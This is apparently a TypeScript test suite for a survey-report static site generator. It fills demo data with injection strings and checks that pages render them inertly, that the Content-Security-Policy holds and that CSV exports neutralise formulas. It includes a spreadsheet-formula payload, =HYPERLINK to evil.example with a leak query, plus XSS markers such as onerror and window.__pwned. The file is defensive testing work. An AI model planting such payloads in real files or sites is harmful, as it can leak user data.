/**
 * Text from data is inert everywhere: one build of a demo data folder in which every text that
 * comes from data (segment levels and dimension labels, item labels, period labels, comments,
 * complaint categories, the actions file, report frontmatter, and a report drafted by
 * new-report from all of it) carries the hostile strings of `hostile-strings.ts`. The build
 * must finish with every page, no script may run in Chromium, no Content-Security-Policy
 * violation may be reported (an injected tag the policy blocked is a violation too), the text
 * must read literally, and no CSV download may hold a live formula.
 */
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseDocument } from 'yaml';
import { loadReviews } from '../src/build/review-data.ts';
import { nodeEffects } from '../src/cli/cli-support.ts';
import { newReport } from '../src/cli/report-workflow.ts';
import { serveStatic } from '../src/cli/static-server.ts';
import { DEFAULT_DEMO, generateDemo } from '../src/demo/demo-generator.ts';
import { levelSlug } from '../src/views/segment-view.ts';
import { hasChromium, launchBrowser, NO_CHROMIUM_REASON } from './browser.ts';
import { buildSite, listTree, type BuildResult } from './build-site.ts';
import { HOSTILE_STRINGS } from './hostile-strings.ts';

/** Every hostile string on one line (for cells and labels). */
const HOSTILE = HOSTILE_STRINGS.filter((h) => !h.text.includes('\n'))
  .map((h) => h.text)
  .join(' ');
/** With the strings that break lines (for YAML frontmatter and JSON manifests). */
const HOSTILE_LINES = HOSTILE_STRINGS.map((h) => h.text).join(' ');

// Each customer group starts with a spreadsheet formula character, so the downloads show
// whether a formula survives; each carries every hostile string too.
const GROUPS: Record<string, string> = {
  SMB: `=HYPERLINK("http://evil.example/?leak","SMB") ${HOSTILE}`,
  Consumer: `+Consumer ${HOSTILE}`,
  Enterprise: `-Enterprise ${HOSTILE}`,
  'Public sector': `@Public sector ${HOSTILE}`,
};
const REGIONS: Record<string, string> = { North: `North ${HOSTILE}` };
const PERIODS: Record<string, string> = {
  '2026-Q2': `Q2 2026 ${HOSTILE_LINES}`,
  '2026-Q3': `Q3 2026 ${HOSTILE_LINES}`,
};
const ITEM_LABEL = (label: string) => `${label} ${HOSTILE_LINES}`;
const DIMENSION_LABEL = `Customer group ${HOSTILE_LINES}`;
const CATEGORY = `Delivery delay ${HOSTILE}`;
const COMMENT = `Late delivery again ${HOSTILE}`;
const REPORT_TITLE = `Review ${HOSTILE_LINES}`;
const ACTION = { id: `A-1 ${HOSTILE}`, title: `Fix ${HOSTILE}`, owner: `Owner ${HOSTILE}` };

/** A CSV file with `change` applied to every row, written back with papaparse's quoting. */
function editCsv(text: string, change: (row: Record<string, string>) => void): string {
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
  for (const row of parsed.data) change(row);
  return `${Papa.unparse(parsed.data, { columns: parsed.meta.fields, newline: '\n' })}\n`;
}

interface Manifest {
  period: string;
  segments: Record<string, { label: string; levels: Record<string, unknown> }>;
  items: Record<string, { label?: string }>;
}

function renameKeys<T>(record: Record<string, T>, names: Record<string, string>) {
  return Object.fromEntries(Object.entries(record).map(([k, v]) => [names[k] ?? k, v]));
}

/** Two demo quarters with hostile text in every place data text can reach a page. */
async function hostileSite(): Promise<{ dataDir: string; reportsDir: string }> {
  const work = mkdtempSync(join(tmpdir(), 'hostile-site-'));
  const dataDir = join(work, 'data');
  const reportsDir = join(work, 'reports');
  for (const snapshot of generateDemo({ ...DEFAULT_DEMO, quarters: 2 })) {
    const dir = join(dataDir, snapshot.id);
    mkdirSync(dir, { recursive: true });
    const files = { ...snapshot.files };
    const manifest = JSON.parse(files['manifest.json']!) as Manifest;
    manifest.period = PERIODS[snapshot.id]!;
    const groups = manifest.segments.customer_group!;
    groups.label = DIMENSION_LABEL;
    groups.levels = renameKeys(groups.levels, GROUPS);
    manifest.segments.region!.levels = renameKeys(manifest.segments.region!.levels, REGIONS);
    for (const item of Object.values(manifest.items)) item.label = ITEM_LABEL(item.label ?? '');
    // The later quarter counts only the top answer as satisfied: CSAT is measured otherwise, so
    // the Trends and group pages name the change of measure with the periods' hostile labels.
    if (snapshot.id === '2026-Q3') Object.assign(manifest.items.satisfaction!, { topBox: 1 });
    files['manifest.json'] = JSON.stringify(manifest, null, 2);
    files['survey.csv'] = editCsv(files['survey.csv']!, (row) => {
      row['Customer group'] = GROUPS[row['Customer group']!] ?? row['Customer group']!;
      row.Region = REGIONS[row.Region!] ?? row.Region!;
      // Only hostile comments: whichever the sample picks carries every string.
      if (row.Comment) row.Comment = COMMENT;
    });
    files['orders.csv'] = editCsv(files['orders.csv']!, (row) => {
      row['Customer group'] = GROUPS[row['Customer group']!] ?? row['Customer group']!;
    });
    files['tickets.csv'] = editCsv(files['tickets.csv']!, (row) => {
      if (row.Category === 'Delivery delay') row.Category = CATEGORY;
    });
    for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
  }
  writeFileSync(
    join(dataDir, 'actions.csv'),
    `${Papa.unparse(
      [
        {
          ...ACTION,
          opened_in: '2026-Q2',
          due: '2026-12-31',
          status: 'open',
          metric: 'nps',
          segment: `customer_group=${GROUPS.SMB}`,
          finding: `decline:nps:customer_group=${GROUPS.SMB}`,
        },
      ],
      { newline: '\n' },
    )}\n`,
  );
  // Both quarters drafted by new-report (the template turns findings into prose); the analyst
  // then gives the earlier one a title, summary and authors of their own.
  const review = await loadReviews(dataDir, work);
  const fx = { ...nodeEffects, today: () => '2026-10-20', out: () => {} };
  newReport(review, '2026-Q3', reportsDir, fx);
  const edited = newReport(review, '2026-Q2', reportsDir, fx);
  const text = readFileSync(edited, 'utf8');
  const [, yaml, body] = /^---\n([\s\S]*?)\n---\n([\s\S]*)$/.exec(text)!;
  const doc = parseDocument(yaml!);
  doc.set('title', REPORT_TITLE);
  doc.set('summary', HOSTILE_LINES);
  doc.set('authors', [HOSTILE_LINES]);
  writeFileSync(edited, `---\n${doc.toString()}---\n${body}`);
  return { dataDir, reportsDir };
}

let build: BuildResult;
let files: string[];
beforeAll(async () => {
  const site = await hostileSite();
  build = buildSite(site.dataDir, site.reportsDir, { REVIEW_DRAFTS: '1' });
  files = build.code === 0 ? listTree(build.outDir) : [];
});

const html = (path: string) => readFileSync(join(build.outDir, path), 'utf8');
/** Every kind of page of the site. */
const PAGES: Record<string, string> = {
  home: '',
  archive: 'reports/',
  'drafted report': 'reports/2026-Q3/',
  'edited report': 'reports/2026-Q2/',
  version: 'reports/2026-Q3/v1/',
  trends: 'trends/',
  groups: 'segments/',
  group: `segments/customer_group/${levelSlug(GROUPS.SMB!)}/`,
  methodology: 'methodology/',
  data: 'data/',
  search: 'search/',
};

describe('a site built from hostile text', () => {
  it('builds every page: no expression ran at build and no component crashed it', () => {
    expect(build.code, build.output).toBe(0);
    expect(build.output).not.toContain('Stack trace');
    for (const [kind, path] of Object.entries(PAGES)) {
      expect(files, kind).toContain(`${path}index.html`);
    }
  });

  it('every page carries the Content-Security-Policy first in its head', () => {
    const htmlFiles = files.filter((f) => f.endsWith('.html'));
    expect(htmlFiles.length).toBeGreaterThan(10);
    for (const file of htmlFiles) {
      expect(html(file), file).toMatch(
        /<head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="[^"]*script-src 'self'[ ;]/,
      );
    }
  });

  it('no CSV download holds a formula; numbers stay numbers', () => {
    const csvFiles = files.filter((f) => f.endsWith('.csv'));
    expect(csvFiles.length).toBeGreaterThanOrEqual(3);
    let negatives = 0;
    let neutralised = 0;
    for (const file of csvFiles) {
      const rows = Papa.parse<string[]>(html(file), { skipEmptyLines: true }).data;
      for (const cell of rows.flat()) {
        if (/^-\d/.test(cell)) negatives += 1;
        if (cell.startsWith("'")) neutralised += 1;
        if (/^[=+\-@\t\r]/.test(cell)) expect(Number(cell), `${file}: ${cell}`).not.toBeNaN();
      }
    }
    // Negative changes are written as numbers, and every hostile level is prefixed.
    expect(negatives).toBeGreaterThan(0);
    expect(neutralised).toBeGreaterThan(0);
    const all = html('data/all-periods.csv');
    for (const level of Object.values(GROUPS)) {
      expect(all).toContain(`"'${level.replace(/"/g, '""')}"`);
    }
  });
});

describe.skipIf(!hasChromium)(
  `the hostile site in Chromium${hasChromium ? '' : ` (${NO_CHROMIUM_REASON})`}`,
  () => {
    let browser: Browser;
    let server: Awaited<ReturnType<typeof serveStatic>>;
    beforeAll(async () => {
      expect(build.code, build.output).toBe(0);
      server = await serveStatic(build.outDir, '/');
      browser = await launchBrowser();
    });
    afterAll(async () => {
      await browser?.close();
      await server?.close();
    });

    /** Opens a page and records every sign of a script from data: dialogs, flags, CSP reports. */
    async function open(path: string): Promise<{ page: Page; problems: () => Promise<string[]> }> {
      const page = await browser.newPage();
      const problems: string[] = [];
      page.on('dialog', (dialog) => {
        problems.push(`dialog: ${dialog.message()}`);
        void dialog.dismiss();
      });
      page.on('pageerror', (error) => problems.push(`page error: ${error.message}`));
      page.on('console', (message) => {
        if (message.type() === 'error') problems.push(`console: ${message.text()}`);
      });
      await page.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', (event) =>
          console.error(`CSP violation: ${event.violatedDirective} ${event.blockedURI}`),
        );
      });
      await page.goto(`${server.url}${path}`);
      return {
        page,
        problems: async () => {
          const flag = await page.evaluate(() => (window as { __pwned?: unknown }).__pwned);
          return flag === undefined ? problems : [...problems, `window.__pwned = ${flag}`];
        },
      };
    }

    it.each(Object.keys(PAGES))(
      'the %s page runs no script from data and reports no CSP violation',
      async (kind) => {
        const { page, problems } = await open(PAGES[kind]!);
        // Every chart is drawn at build: its hostile period labels are text of its SVG.
        for (const chart of await page.locator('figure[data-trend]').all()) {
          expect(await chart.locator('svg text[data-last]').count()).toBeGreaterThan(0);
        }
        // Scripts are files or JSON data, never inline code (the CSP would refuse it anyway).
        const scripts = await page.$$eval('script', (all) =>
          all.map((s) => (s.src ? 'file' : s.type === 'application/json' ? 'json' : s.outerHTML)),
        );
        expect(scripts.filter((s) => s !== 'file' && s !== 'json')).toEqual([]);
        expect(await problems()).toEqual([]);
        await page.close();
      },
    );

    it('shows every hostile text literally where it belongs', async () => {
      const expectations: Array<[kind: string, texts: string[]]> = [
        ['home', [REPORT_TITLE.replace(/\s+/g, ' ')]],
        [
          'drafted report',
          [
            GROUPS.SMB!,
            CATEGORY,
            COMMENT,
            ITEM_LABEL('Service quality').replace(/\s+/g, ' '),
            DIMENSION_LABEL.replace(/\s+/g, ' '),
            ACTION.title,
            ACTION.owner,
          ],
        ],
        ['edited report', [REPORT_TITLE.replace(/\s+/g, ' '), HOSTILE_LINES.replace(/\s+/g, ' ')]],
        [
          'trends',
          [
            ...Object.values(PERIODS).map((p) => p.replace(/\s+/g, ' ')),
            `Measured as now since ${PERIODS['2026-Q3']!.replace(/\s+/g, ' ')}:`,
            `As measured in ${PERIODS['2026-Q2']!.replace(/\s+/g, ' ')}`,
          ],
        ],
        [
          'group',
          [GROUPS.SMB!, `measured as now since ${PERIODS['2026-Q3']!.replace(/\s+/g, ' ')}:`],
        ],
        ['groups', Object.values(GROUPS)],
      ];
      for (const [kind, texts] of expectations) {
        const { page, problems } = await open(PAGES[kind]!);
        const body = (await page.locator('body').textContent())!.replace(/\s+/g, ' ');
        for (const text of texts) expect(body, `${kind}: ${text.slice(0, 40)}`).toContain(text);
        expect(await problems()).toEqual([]);
        await page.close();
      }
    });

    it('the drafted narrative reads each finding as text, the planted decline of the hostile group included', async () => {
      const json = JSON.parse(html('reports/2026-Q3/v1/figures.json')) as {
        figures: { findings: Array<{ kind: string; title: string }> };
      };
      const titles = json.figures.findings
        .filter((f) => f.kind !== 'improvement')
        .slice(0, 8)
        .map((f) => `${f.title.replace(/\s+/g, ' ')}.`);
      expect(titles.filter((t) => t.includes(GROUPS.SMB!)).length).toBeGreaterThan(0);
      const { page, problems } = await open(PAGES['drafted report']!);
      const narrative = await page
        .locator('h3:has-text("Analyst") + p + ul > li')
        .allTextContents();
      expect(narrative.map((li) => li.replace(/\s+/g, ' ').trim())).toEqual(titles);
      expect(await problems()).toEqual([]);
      await page.close();
    });

    it('search finds hostile text and shows it as text', async () => {
      const { page, problems } = await open(PAGES.search!);
      const input = page.locator('#search input');
      await input.waitFor({ timeout: 10_000 });
      await input.fill('HYPERLINK onerror');
      await page.locator('.pagefind-ui__result-link').first().waitFor({ timeout: 10_000 });
      await page.waitForTimeout(500);
      expect(await page.locator('.pagefind-ui__results img').count()).toBe(0);
      const excerpts = await page.locator('.pagefind-ui__result-excerpt').allTextContents();
      expect(excerpts.join(' ')).toContain('onerror=');
      expect(await problems()).toEqual([]);
      await page.close();
    });
  },
);
